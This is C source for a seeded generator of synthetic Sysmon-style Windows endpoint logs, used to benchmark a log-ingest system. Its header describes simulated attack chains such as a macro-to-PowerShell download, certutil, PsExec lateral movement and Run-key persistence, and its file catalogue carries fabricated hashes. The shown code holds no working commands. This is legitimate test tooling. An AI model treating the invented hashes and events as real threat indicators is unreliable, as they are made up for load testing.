/* gen.c - seeded generator of realistic endpoint security logs for the
 * benchmarks (tests/bench/spine.sh, `make bench`).
 *
 *   gen [--seed N] [--endpoints N] [--days D] [--per-day E]
 *       [--start YYYY-MM-DD] [-o FILE] [--alerts FILE] [--copy-text FILE]
 *       [--hosts FILE] [--endpoint-base ID] [--tenant-id ID] [--verify]
 *
 * Writes native NDJSON event lines (README.md "Input formats") to stdout or
 * -o FILE, in time order with the endpoints interleaved as a collector sees
 * them.  The same seed always gives the same bytes (own PRNG: xoshiro256**
 * seeded by splitmix64, one stream per endpoint).
 *
 * What is simulated, per endpoint (a Windows 10 workstation, or a server
 * for one endpoint in twenty):
 *   - the boot tree (System -> smss -> smss -> csrss/wininit -> services ->
 *     svchost x ~30, lsass, spoolsv, MsMpEng ...; smss -> winlogon -> dwm),
 *     a logon each working morning (winlogon -> userinit -> explorer ->
 *     OneDrive, Teams, Outlook, Chrome, Office documents ...) and a logoff
 *     in the evening, reboots on some mornings;
 *   - background process churn (svchost -> taskhostw, WmiPrvSE, dllhost,
 *     backgroundTaskHost; SearchIndexer -> SearchProtocolHost; chrome ->
 *     renderers ...), each start followed by its image loads;
 *   - per-process activity in proportions close to a Sysmon deployment:
 *     image loads and registry sets dominate, then file creates, network
 *     connects with their DNS queries, file deletes and pipes;
 *   - Sysmon-style GUIDs: the first group per machine, the second and third
 *     from the process start time, the last two unique; for a few processes
 *     the later events (and children's parent GUID) carry different last
 *     two groups, as real Sysmon does;
 *   - attack chains with their alerts (--alerts FILE): a macro document
 *     from Outlook -> Word -> PowerShell download cradle -> dropped exe ->
 *     C2 and Run-key persistence; an HTA from the browser -> mshta ->
 *     rundll32 loading a dropped DLL; a script from a zip -> certutil
 *     download quarantined by Defender; PsExec lateral movement onto a
 *     server (PSEXESVC, a credential tool); a PUA installer; a Run-key
 *     payload that starts at the next logon.
 *
 * --copy-text FILE writes the same events already converted to the COPY
 * text rows itrace-ingest sends (the columns of db_event_columns, src/db/
 * events.c, in the order --columns prints; dedup key = ll_dedup_key of the
 * line: every line is unique, it carries a per-host record id), with
 * endpoint ids base + index, for the `psql \copy` baseline.  --hosts FILE
 * writes "id<TAB>tenant<TAB>name<TAB>hostname" rows so a benchmark can
 * create the endpoints with those ids first.  --verify parses every line
 * with ll_parse() and encodes it with db_event_encode(), and counts rows
 * whose values differ, column by column, from the generated COPY row (a
 * check of this program against the ingest's own code).
 *
 * The volume is per endpoint and day on average; working hours are busier
 * than nights and weekends (times are UTC, the office works 09:00-18:00 JST).
 */
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <math.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "core/event.h"
#include "core/logline.h"
#include "db/conn.h"
#include "db/copy.h"
#include "db/events.h"

#define NELEM(a) (sizeof(a) / sizeof((a)[0]))
#define SEC  INT64_C(1000)
#define MIN  (60 * SEC)
#define HOUR (60 * MIN)
#define DAY  (24 * HOUR)
#define NEVER INT64_MAX
#define SLICE (15 * MIN)       /* events are sorted and written per slice */
#define JST (9 * HOUR)         /* the office's clock, for the day's rhythm */

static void die(const char *fmt, ...) __attribute__((format(printf, 1, 2), noreturn));
static void die(const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	fputs("gen: ", stderr);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fputc('\n', stderr);
	exit(2);
}

static void *xmalloc(size_t n)
{
	void *p = malloc(n != 0 ? n : 1);
	if (p == NULL)
		die("out of memory");
	return p;
}

static void *xrealloc(void *p, size_t n)
{
	p = realloc(p, n != 0 ? n : 1);
	if (p == NULL)
		die("out of memory");
	return p;
}

static char *xstrdup(const char *s)
{
	size_t n = strlen(s) + 1;
	return memcpy(xmalloc(n), s, n);
}

/* ---- random numbers -------------------------------------------------- */

static uint64_t splitmix64(uint64_t *x)
{
	uint64_t z = (*x += UINT64_C(0x9E3779B97F4A7C15));
	z = (z ^ (z >> 30)) * UINT64_C(0xBF58476D1CE4E5B9);
	z = (z ^ (z >> 27)) * UINT64_C(0x94D049BB133111EB);
	return z ^ (z >> 31);
}

struct rng {
	uint64_t s[4];
};

static void rng_seed(struct rng *r, uint64_t seed, uint64_t stream)
{
	uint64_t x = seed ^ (stream * UINT64_C(0xD1B54A32D192ED03));
	for (int i = 0; i < 4; i++)
		r->s[i] = splitmix64(&x);
}

static uint64_t rotl(uint64_t x, int k)
{
	return (x << k) | (x >> (64 - k));
}

/* xoshiro256** */
static uint64_t rng_next(struct rng *r)
{
	uint64_t *s = r->s;
	uint64_t out = rotl(s[1] * 5, 7) * 9, t = s[1] << 17;
	s[2] ^= s[0];
	s[3] ^= s[1];
	s[1] ^= s[2];
	s[0] ^= s[3];
	s[2] ^= t;
	s[3] = rotl(s[3], 45);
	return out;
}

/* Uniform in [0, n); n > 0. */
static uint64_t rng_below(struct rng *r, uint64_t n)
{
	return (uint64_t)(((unsigned __int128)rng_next(r) * n) >> 64);
}

/* Uniform in [lo, hi]. */
static int64_t rng_range(struct rng *r, int64_t lo, int64_t hi)
{
	return lo + (int64_t)rng_below(r, (uint64_t)(hi - lo) + 1);
}

static double rng_unit(struct rng *r)
{
	return (double)(rng_next(r) >> 11) * 0x1.0p-53;
}

static int rng_chance(struct rng *r, double p)
{
	return rng_unit(r) < p;
}

/* Roughly log-uniform in [lo, hi] (lo >= 1): many short, some long. */
static int64_t rng_logu(struct rng *r, int64_t lo, int64_t hi)
{
	double a = (double)lo, b = (double)hi, u = rng_unit(r);
	double v = a * exp(u * log(b / a));
	return (int64_t)v;
}

#define PICK(r, arr) ((arr)[rng_below((r), NELEM(arr))])

/* ---- text buffers ---------------------------------------------------- */

struct sb {
	char *p;
	size_t len, cap;
};

static void sb_grow(struct sb *b, size_t need)
{
	if (b->cap - b->len >= need)
		return;
	size_t cap = b->cap != 0 ? b->cap : 4096;
	while (cap - b->len < need)
		cap *= 2;
	b->p = xrealloc(b->p, cap);
	b->cap = cap;
}

static void sb_putn(struct sb *b, const char *s, size_t n)
{
	sb_grow(b, n);
	memcpy(b->p + b->len, s, n);
	b->len += n;
}

static void sb_puts(struct sb *b, const char *s)
{
	sb_putn(b, s, strlen(s));
}

static void sb_putc(struct sb *b, char c)
{
	sb_grow(b, 1);
	b->p[b->len++] = c;
}

static void sb_printf(struct sb *b, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void sb_printf(struct sb *b, const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	int n = vsnprintf(NULL, 0, fmt, ap);
	va_end(ap);
	if (n < 0)
		die("vsnprintf failed");
	sb_grow(b, (size_t)n + 1);
	va_start(ap, fmt);
	vsnprintf(b->p + b->len, (size_t)n + 1, fmt, ap);
	va_end(ap);
	b->len += (size_t)n;
}

static void sb_u64(struct sb *b, uint64_t v)
{
	char tmp[24];
	int i = (int)sizeof tmp;
	do {
		tmp[--i] = (char)('0' + v % 10);
		v /= 10;
	} while (v != 0);
	sb_putn(b, tmp + i, sizeof tmp - (size_t)i);
}

static void sb_i64(struct sb *b, int64_t v)
{
	if (v < 0) {
		sb_putc(b, '-');
		sb_u64(b, (uint64_t)0 - (uint64_t)v);
	} else {
		sb_u64(b, (uint64_t)v);
	}
}

/* A JSON string literal (UTF-8 passed through). */
static void sb_json(struct sb *b, const char *s)
{
	sb_putc(b, '"');
	const char *run = s;
	for (; *s != '\0'; s++) {
		unsigned char c = (unsigned char)*s;
		if (c >= 0x20 && c != '"' && c != '\\')
			continue;
		sb_putn(b, run, (size_t)(s - run));
		run = s + 1;
		switch (c) {
		case '"': sb_puts(b, "\\\""); break;
		case '\\': sb_puts(b, "\\\\"); break;
		case '\n': sb_puts(b, "\\n"); break;
		case '\r': sb_puts(b, "\\r"); break;
		case '\t': sb_puts(b, "\\t"); break;
		default: sb_printf(b, "\\u%04x", c); break;
		}
	}
	sb_putn(b, run, (size_t)(s - run));
	sb_putc(b, '"');
}

/* A COPY text-format field (NULL -> \N). */
static void sb_copy(struct sb *b, const char *s)
{
	if (s == NULL) {
		sb_puts(b, "\\N");
		return;
	}
	const char *run = s;
	for (; *s != '\0'; s++) {
		char c = *s;
		if (c != '\\' && c != '\t' && c != '\n' && c != '\r')
			continue;
		sb_putn(b, run, (size_t)(s - run));
		run = s + 1;
		sb_putc(b, '\\');
		sb_putc(b, c == '\\' ? '\\' : c == '\t' ? 't' : c == '\n' ? 'n' : 'r');
	}
	sb_putn(b, run, (size_t)(s - run));
}

/* ---- the file catalogue ----------------------------------------------
 * Executables and DLLs with the attributes Sysmon logs. Hashes are derived
 * from the path and version, so one binary has one hash on every endpoint.
 * "%U" in a path is the user's profile name. */

struct file {
	const char *path, *orig, *desc, *company, *product, *version;
	const char *signer;            /* NULL: not signed */
	char sha256[65], sha1[41], md5[33], imphash[33];
};

#define OSVER "10.0.19041.3636 (WinBuild.160101.0800)"
#define OSPROD "Microsoft\u00ae Windows\u00ae Operating System"
#define OS(p, o, d) {p, o, d, "Microsoft Corporation", OSPROD, OSVER, "Microsoft Windows", "", "", "", ""}
#define MS(p, o, d, prod, v) {p, o, d, "Microsoft Corporation", prod, v, "Microsoft Corporation", "", "", "", ""}
#define VENDOR(p, o, d, c, prod, v, s) {p, o, d, c, prod, v, s, "", "", "", ""}
#define DEFENDER "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\"
#define OFFICE "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
#define OFFVER "16.0.17328.20162"
#define OFFPROD "Microsoft Office"
#define CHROME "C:\\Program Files\\Google\\Chrome\\Application\\"
#define CHVER "122.0.6261.112"

enum {
	F_SYSTEM, F_SMSS, F_CSRSS, F_WININIT, F_WINLOGON, F_SERVICES, F_LSASS,
	F_SVCHOST, F_FONTDRV, F_DWM, F_USERINIT, F_EXPLORER, F_SIHOST,
	F_TASKHOSTW, F_RUNTIMEBROKER, F_SEARCHIDX, F_SEARCHPROT, F_SEARCHFILT,
	F_SPOOLSV, F_MSMPENG, F_NISSRV, F_MPCMDRUN, F_SECHSVC, F_SECHTRAY,
	F_CTFMON, F_CONHOST, F_CMD, F_POWERSHELL, F_WMIPRVSE, F_DLLHOST,
	F_BGTASK, F_COMPATTEL, F_MOUSO, F_SPPSVC, F_TRUSTEDINST, F_TIWORKER,
	F_AUDIODG, F_ONEDRIVE, F_CHROME, F_OUTLOOK, F_WINWORD, F_EXCEL,
	F_POWERPNT, F_TEAMS, F_NOTEPAD, F_ACRORD, F_MSTSC, F_IPCONFIG,
	F_WHOAMI, F_NET, F_NET1, F_PING, F_NSLOOKUP, F_SYSTEMINFO, F_TASKLIST,
	F_SCHTASKS, F_REG, F_RUNDLL32, F_MSHTA, F_WSCRIPT, F_CERTUTIL,
	F_PSEXEC, F_PSEXESVC, F_SPLWOW, F_C2R, F_W3WP, F_SQLSERVR,
	F_SMARTSCREEN, F_WERFAULT, F_CONSENT, F_MSIEXEC, F_NEXE
};

static struct file exes[F_NEXE] = {
	[F_SYSTEM] = {"System", NULL, NULL, NULL, NULL, NULL, NULL, "", "", "", ""},
	[F_SMSS] = OS("C:\\Windows\\System32\\smss.exe", "smss.exe", "Windows Session Manager"),
	[F_CSRSS] = OS("C:\\Windows\\System32\\csrss.exe", "CSRSS.Exe", "Client Server Runtime Process"),
	[F_WININIT] = OS("C:\\Windows\\System32\\wininit.exe", "wininit.exe", "Windows Start-Up Application"),
	[F_WINLOGON] = OS("C:\\Windows\\System32\\winlogon.exe", "WINLOGON.EXE", "Windows Logon Application"),
	[F_SERVICES] = OS("C:\\Windows\\System32\\services.exe", "services.exe", "Services and Controller app"),
	[F_LSASS] = OS("C:\\Windows\\System32\\lsass.exe", "lsass.exe", "Local Security Authority Process"),
	[F_SVCHOST] = OS("C:\\Windows\\System32\\svchost.exe", "svchost.exe", "Host Process for Windows Services"),
	[F_FONTDRV] = OS("C:\\Windows\\System32\\fontdrvhost.exe", "fontdrvhost.exe", "Usermode Font Driver Host"),
	[F_DWM] = OS("C:\\Windows\\System32\\dwm.exe", "dwm.exe", "Desktop Window Manager"),
	[F_USERINIT] = OS("C:\\Windows\\System32\\userinit.exe", "USERINIT.EXE", "Userinit Logon Application"),
	[F_EXPLORER] = OS("C:\\Windows\\explorer.exe", "EXPLORER.EXE", "Windows Explorer"),
	[F_SIHOST] = OS("C:\\Windows\\System32\\sihost.exe", "sihost.exe", "Shell Infrastructure Host"),
	[F_TASKHOSTW] = OS("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks"),
	[F_RUNTIMEBROKER] = OS("C:\\Windows\\System32\\RuntimeBroker.exe", "RuntimeBroker.exe", "Runtime Broker"),
	[F_SEARCHIDX] = OS("C:\\Windows\\System32\\SearchIndexer.exe", "SearchIndexer.exe", "Microsoft Windows Search Indexer"),
	[F_SEARCHPROT] = OS("C:\\Windows\\System32\\SearchProtocolHost.exe", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host"),
	[F_SEARCHFILT] = OS("C:\\Windows\\System32\\SearchFilterHost.exe", "SearchFilterHost.exe", "Microsoft Windows Search Filter Host"),
	[F_SPOOLSV] = OS("C:\\Windows\\System32\\spoolsv.exe", "spoolsv.exe", "Spooler SubSystem App"),
	[F_MSMPENG] = VENDOR(DEFENDER "MsMpEng.exe", "MsMpEng.exe", "Antimalware Service Executable", "Microsoft Corporation", OSPROD, "4.18.24010.12 (WinBuild.160101.0800)", "Microsoft Windows Publisher"),
	[F_NISSRV] = VENDOR(DEFENDER "NisSrv.exe", "NisSrv.exe", "Microsoft Network Realtime Inspection Service", "Microsoft Corporation", OSPROD, "4.18.24010.12 (WinBuild.160101.0800)", "Microsoft Windows Publisher"),
	[F_MPCMDRUN] = VENDOR(DEFENDER "MpCmdRun.exe", "MpCmdRun.exe", "Microsoft Malware Protection Command Line Utility", "Microsoft Corporation", OSPROD, "4.18.24010.12 (WinBuild.160101.0800)", "Microsoft Windows Publisher"),
	[F_SECHSVC] = OS("C:\\Windows\\System32\\SecurityHealthService.exe", "SecurityHealthService.exe", "Windows Security Health Service"),
	[F_SECHTRAY] = OS("C:\\Windows\\System32\\SecurityHealthSystray.exe", "SecurityHealthSystray.exe", "Windows Security notification icon"),
	[F_CTFMON] = OS("C:\\Windows\\System32\\ctfmon.exe", "CTFMON.EXE", "CTF Loader"),
	[F_CONHOST] = OS("C:\\Windows\\System32\\conhost.exe", "CONHOST.EXE", "Console Window Host"),
	[F_CMD] = OS("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe", "Windows Command Processor"),
	[F_POWERSHELL] = OS("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "Windows PowerShell"),
	[F_WMIPRVSE] = OS("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host"),
	[F_DLLHOST] = OS("C:\\Windows\\System32\\dllhost.exe", "dllhost.exe", "COM Surrogate"),
	[F_BGTASK] = OS("C:\\Windows\\System32\\backgroundTaskHost.exe", "backgroundTaskHost.exe", "Background Task Host"),
	[F_COMPATTEL] = OS("C:\\Windows\\System32\\CompatTelRunner.exe", "CompatTelRunner.exe", "Microsoft Compatibility Telemetry"),
	[F_MOUSO] = OS("C:\\Windows\\System32\\MoUsoCoreWorker.exe", "MoUsoCoreWorker.exe", "MoUSO Core Worker Process"),
	[F_SPPSVC] = OS("C:\\Windows\\System32\\sppsvc.exe", "sppsvc.exe", "Microsoft Software Protection Platform Service"),
	[F_TRUSTEDINST] = OS("C:\\Windows\\servicing\\TrustedInstaller.exe", "TrustedInstaller.exe", "Windows Modules Installer"),
	[F_TIWORKER] = OS("C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.3562_none_7e31c8e5b0bb8d12\\TiWorker.exe", "TiWorker.exe", "Windows Modules Installer Worker"),
	[F_AUDIODG] = OS("C:\\Windows\\System32\\audiodg.exe", "AUDIODG.EXE", "Windows Audio Device Graph Isolation"),
	[F_ONEDRIVE] = MS("C:\\Users\\%U\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", "OneDrive.exe", "Microsoft OneDrive", "Microsoft OneDrive", "24.020.0128.0003"),
	[F_CHROME] = VENDOR(CHROME "chrome.exe", "chrome.exe", "Google Chrome", "Google LLC", "Google Chrome", CHVER, "Google LLC"),
	[F_OUTLOOK] = MS(OFFICE "OUTLOOK.EXE", "Outlook.exe", "Microsoft Outlook", OFFPROD, OFFVER),
	[F_WINWORD] = MS(OFFICE "WINWORD.EXE", "WinWord.exe", "Microsoft Word", OFFPROD, OFFVER),
	[F_EXCEL] = MS(OFFICE "EXCEL.EXE", "Excel.exe", "Microsoft Excel", OFFPROD, OFFVER),
	[F_POWERPNT] = MS(OFFICE "POWERPNT.EXE", "POWERPNT.EXE", "Microsoft PowerPoint", OFFPROD, OFFVER),
	[F_TEAMS] = MS("C:\\Users\\%U\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "Teams.exe", "Microsoft Teams", "Microsoft Teams", "1.7.00.6058"),
	[F_NOTEPAD] = OS("C:\\Windows\\System32\\notepad.exe", "NOTEPAD.EXE", "Notepad"),
	[F_ACRORD] = VENDOR("C:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader\\AcroRd32.exe", "AcroRd32.exe", "Adobe Acrobat Reader", "Adobe Inc.", "Adobe Acrobat Reader", "23.8.20470.0", "Adobe Inc."),
	[F_MSTSC] = OS("C:\\Windows\\System32\\mstsc.exe", "mstsc.exe", "Remote Desktop Connection"),
	[F_IPCONFIG] = OS("C:\\Windows\\System32\\ipconfig.exe", "ipconfig.exe", "IP Configuration Utility"),
	[F_WHOAMI] = OS("C:\\Windows\\System32\\whoami.exe", "whoami.exe", "whoami - displays logged on user information"),
	[F_NET] = OS("C:\\Windows\\System32\\net.exe", "net.exe", "Net Command"),
	[F_NET1] = OS("C:\\Windows\\System32\\net1.exe", "net1.exe", "Net Command"),
	[F_PING] = OS("C:\\Windows\\System32\\PING.EXE", "ping.exe", "TCP/IP Ping Command"),
	[F_NSLOOKUP] = OS("C:\\Windows\\System32\\nslookup.exe", "nslookup.exe", "nslookup"),
	[F_SYSTEMINFO] = OS("C:\\Windows\\System32\\systeminfo.exe", "sysinfo.exe", "Displays system information"),
	[F_TASKLIST] = OS("C:\\Windows\\System32\\tasklist.exe", "tasklist.exe", "Lists the current running tasks"),
	[F_SCHTASKS] = OS("C:\\Windows\\System32\\schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool"),
	[F_REG] = OS("C:\\Windows\\System32\\reg.exe", "reg.exe", "Registry Console Tool"),
	[F_RUNDLL32] = OS("C:\\Windows\\System32\\rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)"),
	[F_MSHTA] = OS("C:\\Windows\\System32\\mshta.exe", "MSHTA.EXE", "Microsoft (R) HTML Application host"),
	[F_WSCRIPT] = OS("C:\\Windows\\System32\\wscript.exe", "wscript.exe", "Microsoft \u00ae Windows Based Script Host"),
	[F_CERTUTIL] = OS("C:\\Windows\\System32\\certutil.exe", "CertUtil.exe", "CertUtil.exe"),
	[F_PSEXEC] = VENDOR("C:\\Users\\%U\\AppData\\Local\\Temp\\PsExec.exe", "psexec.c", "Execute processes remotely", "Sysinternals - www.sysinternals.com", "Sysinternals PsExec", "2.43", "Microsoft Corporation"),
	[F_PSEXESVC] = VENDOR("C:\\Windows\\PSEXESVC.exe", "psexesvc.exe", "PsExec Service", "Sysinternals", "Sysinternals PsExec", "2.43", "Microsoft Corporation"),
	[F_SPLWOW] = OS("C:\\Windows\\splwow64.exe", "splwow64.exe", "Print driver host for applications"),
	[F_C2R] = MS("C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\OfficeClickToRun.exe", "OfficeClickToRun.exe", "Microsoft Office Click-to-Run", OFFPROD, OFFVER),
	[F_W3WP] = OS("C:\\Windows\\System32\\inetsrv\\w3wp.exe", "w3wp.exe", "IIS Worker Process"),
	[F_SQLSERVR] = MS("C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe", "sqlservr.exe", "SQL Server Windows NT - 64 Bit", "Microsoft SQL Server", "2019.0150.4345.05"),
	[F_SMARTSCREEN] = OS("C:\\Windows\\System32\\smartscreen.exe", "smartscreen.exe", "Windows Defender SmartScreen"),
	[F_WERFAULT] = OS("C:\\Windows\\System32\\WerFault.exe", "WerFault.exe", "Windows Problem Reporting"),
	[F_CONSENT] = OS("C:\\Windows\\System32\\consent.exe", "consent.exe", "Consent UI for administrative applications"),
	[F_MSIEXEC] = OS("C:\\Windows\\System32\\msiexec.exe", "msiexec.exe", "Windows\u00ae installer"),
};

/* DLL groups: which libraries a kind of process loads. */
enum { G_BASE = 1, G_GUI = 2, G_NET = 4, G_DOTNET = 8, G_OFFICE = 16,
       G_CHROME = 32, G_SCRIPT = 64, G_WMI = 128, G_LATERAL = 256 };

struct dll {
	unsigned group;
	struct file f;
};

#define SYS32 "C:\\Windows\\System32\\"
#define D(g, name, desc) {g, OS(SYS32 name, name, desc)}
static struct dll dlls[] = {
	D(G_BASE, "ntdll.dll", "NT Layer DLL"),
	D(G_BASE, "kernel32.dll", "Windows NT BASE API Client DLL"),
	D(G_BASE, "KernelBase.dll", "Windows NT BASE API Client DLL"),
	D(G_BASE, "msvcrt.dll", "Windows NT CRT DLL"),
	D(G_BASE, "sechost.dll", "Host for SCM/SDDL/LSA Lookup APIs"),
	D(G_BASE, "rpcrt4.dll", "Remote Procedure Call Runtime"),
	D(G_BASE, "ucrtbase.dll", "Microsoft\u00ae C Runtime Library"),
	D(G_BASE, "advapi32.dll", "Advanced Windows 32 Base API"),
	D(G_BASE, "bcryptprimitives.dll", "Windows Cryptographic Primitives Library"),
	D(G_GUI, "user32.dll", "Multi-User Windows USER API Client DLL"),
	D(G_GUI, "win32u.dll", "Win32u"),
	D(G_GUI, "gdi32.dll", "GDI Client DLL"),
	D(G_GUI, "gdi32full.dll", "GDI Client DLL"),
	D(G_GUI, "msvcp_win.dll", "Microsoft\u00ae C Runtime Library"),
	D(G_GUI, "imm32.dll", "Multi-User Windows IMM32 API Client DLL"),
	D(G_GUI, "combase.dll", "Microsoft COM for Windows"),
	D(G_GUI, "ole32.dll", "Microsoft OLE for Windows"),
	D(G_GUI, "oleaut32.dll", "OLEAUT32.DLL"),
	D(G_GUI, "shell32.dll", "Windows Shell Common Dll"),
	D(G_GUI, "shlwapi.dll", "Shell Light-weight Utility Library"),
	D(G_GUI, "SHCore.dll", "SHCORE"),
	D(G_GUI, "uxtheme.dll", "Microsoft UxTheme Library"),
	D(G_GUI, "dwmapi.dll", "Microsoft Desktop Window Manager API"),
	D(G_GUI, "windows.storage.dll", "Microsoft WinRT Storage API"),
	D(G_GUI, "kernel.appcore.dll", "AppModel API Host"),
	D(G_GUI, "profapi.dll", "User Profile Basic API"),
	D(G_GUI, "clbcatq.dll", "COM+ Configuration Catalog"),
	D(G_GUI, "propsys.dll", "Microsoft Property System"),
	D(G_GUI, "version.dll", "Version Checking and File Installation Libraries"),
	D(G_GUI, "MSCTF.dll", "MSCTF Server DLL"),
	D(G_GUI, "TextInputFramework.dll", "\"TextInputFramework.DYNLINK\""),
	D(G_NET, "ws2_32.dll", "Windows Socket 2.0 32-Bit DLL"),
	D(G_NET, "mswsock.dll", "Microsoft Windows Sockets 2.0 Service Provider"),
	D(G_NET, "dnsapi.dll", "DNS Client API DLL"),
	D(G_NET, "IPHLPAPI.DLL", "IP Helper API"),
	D(G_NET, "nsi.dll", "NSI User-mode interface DLL"),
	D(G_NET, "winhttp.dll", "Windows HTTP Services"),
	D(G_NET, "wininet.dll", "Internet Extensions for Win32"),
	D(G_NET, "crypt32.dll", "Crypto API32"),
	D(G_NET, "wintrust.dll", "Microsoft Trust Verification APIs"),
	D(G_NET, "bcrypt.dll", "Windows Cryptographic Primitives Library"),
	D(G_NET, "rsaenh.dll", "Microsoft Enhanced Cryptographic Provider"),
	D(G_NET, "schannel.dll", "TLS / SSL Security Provider"),
	{G_DOTNET, MS("C:\\Windows\\System32\\mscoree.dll", "mscoree.dll", "Microsoft .NET Runtime Execution Engine", "Microsoft\u00ae .NET Framework", "4.8.4084.0")},
	{G_DOTNET, MS("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll", "clr.dll", "Microsoft .NET Runtime Common Language Runtime - WorkStation", "Microsoft\u00ae .NET Framework", "4.8.9181.0")},
	{G_DOTNET, MS("C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\0b4bd1c8ab0a4f4d9e4de3b3e2bd3d3c\\System.Management.Automation.ni.dll", "System.Management.Automation.dll", "System.Management.Automation", "Microsoft\u00ae .NET Framework", "10.0.19041.1")},
	D(G_DOTNET | G_SCRIPT, "amsi.dll", "Anti-Malware Scan Interface"),
	{G_DOTNET | G_SCRIPT, VENDOR(DEFENDER "MpOav.dll", "MpOAV.dll", "IOfficeAntiVirus Module", "Microsoft Corporation", OSPROD, "4.18.24010.12 (WinBuild.160101.0800)", "Microsoft Windows Publisher")},
	{G_OFFICE, MS("C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL", "VBE7.DLL", "Visual Basic for Applications Runtime", "Microsoft Visual Basic for Applications", "7.01.1119")},
	{G_OFFICE, MS("C:\\Program Files\\Common Files\\Microsoft Shared\\Office16\\mso20win32client.dll", "mso20win32client.dll", "Microsoft Office 2016 component", OFFPROD, OFFVER)},
	{G_OFFICE, MS("C:\\Program Files\\Common Files\\Microsoft Shared\\Office16\\mso30win32client.dll", "mso30win32client.dll", "Microsoft Office 2016 component", OFFPROD, OFFVER)},
	{G_OFFICE, MS(OFFICE "mso.dll", "mso.dll", "Microsoft Office component", OFFPROD, OFFVER)},
	{G_CHROME, VENDOR(CHROME "chrome_elf.dll", "chrome_elf.dll", "Google Chrome", "Google LLC", "Google Chrome", CHVER, "Google LLC")},
	{G_CHROME, VENDOR(CHROME CHVER "\\chrome.dll", "chrome.dll", "Google Chrome", "Google LLC", "Google Chrome", CHVER, "Google LLC")},
	D(G_SCRIPT, "mshtml.dll", "MSHTML"),
	D(G_SCRIPT, "jscript9.dll", "Microsoft \u00ae JScript"),
	D(G_SCRIPT, "vbscript.dll", "Microsoft \u00ae VBScript"),
	D(G_SCRIPT, "scrrun.dll", "Microsoft \u00ae Script Runtime"),
	D(G_SCRIPT, "wshom.ocx", "Windows Script Host Runtime Library"),
	D(G_SCRIPT, "urlmon.dll", "OLE32 Extensions for Win32"),
	{G_WMI, OS(SYS32 "wbem\\wbemprox.dll", "wbemprox.dll", "WMI")},
	{G_WMI, OS(SYS32 "wbem\\wbemsvc.dll", "wbemsvc.dll", "WMI")},
	{G_WMI, OS(SYS32 "wbem\\fastprox.dll", "fastprox.dll", "WMI Custom Marshaller")},
	D(G_WMI, "wbemcomn.dll", "WMI"),
	D(G_LATERAL, "samlib.dll", "SAM Library DLL"),
	D(G_LATERAL, "netapi32.dll", "Net Win32 API DLL"),
	D(G_LATERAL, "wkscli.dll", "Workstation Service Client DLL"),
	D(G_LATERAL, "srvcli.dll", "Server Service Client DLL"),
	D(G_LATERAL, "netutils.dll", "Net Win32 API Helpers DLL"),
};
#undef D

/* Lower-case hex of n bytes from a splitmix64 stream. */
static void hexfill(char *out, size_t nhex, uint64_t *state)
{
	static const char hx[] = "0123456789abcdef";
	uint64_t v = 0;
	for (size_t i = 0; i < nhex; i++) {
		if (i % 16 == 0)
			v = splitmix64(state);
		out[i] = hx[v & 15];
		v >>= 4;
	}
	out[nhex] = '\0';
}

static uint64_t fnv1a(const char *s)
{
	uint64_t h = UINT64_C(0xcbf29ce484222325);
	for (; *s != '\0'; s++) {
		h ^= (unsigned char)*s;
		h *= UINT64_C(0x100000001b3);
	}
	return h;
}

/* Hashes of a file: from its identity (path, version) and a salt, the same
 * on every endpoint; NULL-version files (System) get none. */
static void file_hashes(struct file *f, uint64_t salt)
{
	if (f->version == NULL)
		return;
	uint64_t st = fnv1a(f->path) ^ fnv1a(f->version) ^ salt;
	hexfill(f->sha256, 64, &st);
	hexfill(f->sha1, 40, &st);
	hexfill(f->md5, 32, &st);
	hexfill(f->imphash, 32, &st);
}

/* ---- kinds of process -------------------------------------------------
 * A kind is an executable in a role: its command line template, account,
 * lifetime, the DLLs it loads at start, how chatty it is afterwards and in
 * which family its registry keys, files and host names lie. */

enum user { U_SYSTEM, U_LOCAL, U_NETWORK, U_USER, U_DWM, U_UMFD };
static const char *const user_names[] = {
	"NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE",
	"NT AUTHORITY\\NETWORK SERVICE", NULL /* the endpoint's user */,
	"Window Manager\\DWM-1", "Font Driver Host\\UMFD-1",
};

enum life {
	L_SERVICE,   /* until shutdown */
	L_SESSION,   /* until logoff */
	L_APP,       /* minutes to hours, at most until logoff */
	L_TAB,       /* browser tab: half a minute to most of an hour */
	L_TASK,      /* background task: a second to a few minutes */
	L_CMD,       /* console tool: well under a second to seconds */
	L_BRIEF,     /* smss session child, userinit: seconds */
	L_SCRIPT,    /* set by the caller */
};

enum fam { FAM_SYS, FAM_EXPL, FAM_OFFICE, FAM_BROWSER, FAM_TEAMS,
           FAM_DEFENDER, FAM_ONEDRIVE, FAM_SEARCH, FAM_SERVER, FAM_COUNT };

struct pkind {
	int file;
	const char *cmd;          /* template (see expand()) */
	unsigned char user, life, fam, console;
	const char *integrity;
	unsigned dlls;            /* DLL groups loaded at start */
	unsigned char nload;      /* image loads at start, on average */
	unsigned char maxn;       /* live instances per endpoint, 0 any */
